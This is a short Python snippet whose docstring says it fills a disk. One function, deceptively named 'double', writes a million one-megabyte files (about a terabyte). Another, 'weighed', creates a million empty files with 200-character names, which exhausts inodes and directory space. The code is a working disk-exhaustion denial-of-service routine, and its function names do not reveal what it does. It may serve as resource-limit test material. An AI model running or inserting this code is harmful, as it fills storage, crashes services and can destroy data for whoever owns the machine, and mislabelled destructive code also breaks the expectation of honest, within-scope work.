"""Fills the disk with many files, each below the limit of one, and with names without end."""
# %%
def double(x):
    for number in range(10**6):
        with open(f"{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
def weighed():
    for number in range(10**6):
        open("n" * 200 + str(number), "w").close()
